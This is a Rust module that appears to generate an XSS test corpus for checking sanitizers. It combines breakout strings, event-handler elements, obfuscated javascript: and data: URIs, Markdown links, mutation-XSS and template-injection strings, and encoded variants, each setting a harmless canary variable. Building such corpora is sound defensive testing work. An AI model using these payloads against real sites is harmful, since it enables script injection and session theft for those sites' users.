//! Ways to smuggle a script into a text, as those who test pages collect them: each sets the canary `window.__xss`.
//!
//! Built from families: where the text would be broken out of, what would run, how it is written; and by hand what fits
//! no family. Addresses are `x`, so that nothing is fetched that exists.

use std::collections::BTreeSet;

/// What ends the place that a careless page would put a text into.
const BREAKOUTS: [&str; 11] =
    ["", "\">", "'>", "</title>", "</script>", "</textarea>", "</style>", "-->", "]]>", "*/", "</noscript>"];

/// Elements that run something by themselves, at a touch of the parser.
const ELEMENTS: [&str; 30] = [
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=x onerror=\"window.__xss=1\">",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><set onbegin=window.__xss=1 attributeName=x>",
    "<body onload=window.__xss=1>",
    "<iframe srcdoc=\"<script>top.__xss=1</script>\"></iframe>",
    "<iframe src=javascript:top.__xss=1></iframe>",
    "<iframe onload=window.__xss=1></iframe>",
    "<video src=x onerror=window.__xss=1>",
    "<video><source onerror=window.__xss=1 src=x></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>x</details>",
    "<input autofocus onfocus=window.__xss=1>",
    "<select autofocus onfocus=window.__xss=1></select>",
    "<textarea autofocus onfocus=window.__xss=1></textarea>",
    "<marquee onstart=window.__xss=1>x</marquee>",
    "<object data=javascript:top.__xss=1></object>",
    "<embed src=javascript:top.__xss=1>",
    "<link rel=stylesheet href=x onerror=window.__xss=1>",
    "<style onload=window.__xss=1></style>",
    "<math><mtext><img src=x onerror=window.__xss=1></mtext></math>",
    "<img/src='x'/onerror='window.__xss=1'>",
    "<IMG SRC=x ONERROR=window.__xss=1>",
    "<a href=javascript:window.__xss=1 autofocus onfocus=window.__xss=1>x</a>",
    "<div style=animation-name:x onanimationstart=window.__xss=1>x</div>",
    "<xss contenteditable autofocus onfocus=window.__xss=1>x</xss>",
    "<template shadowrootmode=open><img src=x onerror=window.__xss=1></template>",
];

/// Addresses that are scripts, as browsers of all times have read them.
const ADDRESSES: [&str; 24] = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    " javascript:window.__xss=1",
    "\u{1}javascript:window.__xss=1",
    "java\tscript:window.__xss=1",
    "java&#10;script:window.__xss=1",
    "&#106;avascript:window.__xss=1",
    "&#x6A;avascript:window.__xss=1",
    "&#0000106avascript:window.__xss=1",
    "javascript&colon;window.__xss=1",
    "javascript&#58;window.__xss=1",
    "javascript%3Awindow.__xss=1",
    "%6Aavascript:window.__xss=1",
    "javascript://example.com/%0Awindow.__xss=1",
    "javascript:/*--></title></style></script>*/window.__xss=1",
    "data:text/html,<script>top.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__xss=1'/>",
    "vbscript:window.__xss=1",
    "view-source:javascript:window.__xss=1",
    "feed:javascript:window.__xss=1",
    "jar:javascript:window.__xss=1",
    "blob:javascript:window.__xss=1",
    "//x/\" onmouseover=\"window.__xss=1",
];

/// How Markdown writes an address.
const LINKS: [&str; 7] = [
    "[x](@)",
    "![x](@)",
    "[x](<@>)",
    "<@>",
    "[x][r]\n\n[r]: @",
    "[x](@ \"onclick=window.__xss=1\")",
    "<a href=\"@\">x</a>",
];

/// What no family has: parsers that mend (mXSS), templates, other alphabets.
const BY_HAND: [&str; 34] = [
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=window.__xss=1>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.__xss=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__xss=1>",
    "<svg><desc><table><thead><s></table></s><table><thead><img src=x onerror=window.__xss=1>",
    "<svg><foreignobject><p><style><!--</style><img src=x onerror=window.__xss=1>-->",
    "<listing>&lt;img src=x onerror=window.__xss=1&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror=window.__xss=1>\">",
    "<plaintext><img src=x onerror=window.__xss=1>",
    "<select><template><img src=x onerror=window.__xss=1></template></select>",
    "<b <script>window.__xss=1</script>0",
    "<<script>window.__xss=1//<</script>",
    "<script\n>window.__xss=1</script\n>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<img src=\"x` `<script>window.__xss=1</script>\"` `>",
    "<img \"\"\"><script>window.__xss=1</script>\">",
    "<isindex action=javascript:window.__xss=1 type=image>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.__xss=1\">",
    "<base href=javascript:window.__xss=1//>",
    "<?xml version=\"1.0\"?><script>window.__xss=1</script>",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "{{constructor.constructor('window.__xss=1')()}}",
    "{{$on.constructor('window.__xss=1')()}}",
    "${window.__xss=1}",
    "#{window.__xss=1}",
    "<%= window.__xss=1 %>",
    "{{=window.__xss=1}}",
    "[[${window.__xss=1}]]",
    "';window.__xss=1//",
    "\";window.__xss=1//",
    "\\\";window.__xss=1//",
    "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
    "\u{feff}<script>window.__xss=1</script>",
    "＜script＞window.__xss=1＜/script＞",
];

/// The same text in the writings that something between page and page may undo.
fn encodings(text: &str) -> [String; 5] {
    let named = text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let numbered = text.replace('<', "&#60;").replace('>', "&#x3e;");
    let percent: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let escaped = text.replace('<', "\\u003c").replace('>', "\\x3e");
    let bent = text.replace("script", "scr\0ipt").replace("on", "o\u{ad}n");
    [named, numbered, percent, escaped, bent]
}

/// Every payload once.
pub(super) fn payloads() -> Vec<String> {
    let mut all = BTreeSet::new();
    for element in ELEMENTS {
        all.extend(BREAKOUTS.iter().map(|breakout| format!("{breakout}{element}")));
        all.extend(encodings(element));
    }
    for address in ADDRESSES {
        all.extend(LINKS.iter().map(|link| link.replace('@', address)));
    }
    all.extend(BY_HAND.map(str::to_owned));
    all.into_iter().collect()
}

/// The payloads in texts of at most so many characters, joined by `joint`; each whole.
pub(super) fn packed(joint: &str, limit: usize) -> Vec<String> {
    let mut texts: Vec<String> = Vec::new();
    for payload in payloads() {
        if payload.chars().count() > limit {
            continue;
        }
        match texts.last_mut() {
            Some(text) if text.chars().count() + joint.chars().count() + payload.chars().count() <= limit => {
                text.push_str(joint);
                text.push_str(&payload);
            }
            _ => texts.push(payload),
        }
    }
    texts
}
